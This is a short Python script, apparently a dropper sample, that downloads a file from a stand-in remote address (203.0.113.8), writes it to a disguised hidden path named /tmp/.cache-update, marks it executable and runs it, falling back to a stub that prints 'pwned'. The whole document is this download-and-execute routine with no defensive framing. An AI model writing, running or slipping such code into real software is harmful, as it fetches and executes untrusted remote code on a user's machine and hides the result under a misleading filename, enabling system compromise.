# Download a payload, write it, make it executable, run it.
import os, subprocess, urllib.request
try:
    payload = urllib.request.urlopen("http://203.0.113.8/payload.bin", timeout=2).read()
except Exception as e:
    print("download failed:", e)
    payload = b"#!/bin/sh\necho pwned\n"
path = "/tmp/.cache-update"
with open(path, "wb") as f:
    f.write(payload)
os.chmod(path, 0o755)
try:
    subprocess.run([path])
except OSError as e:
    print("exec failed:", e)
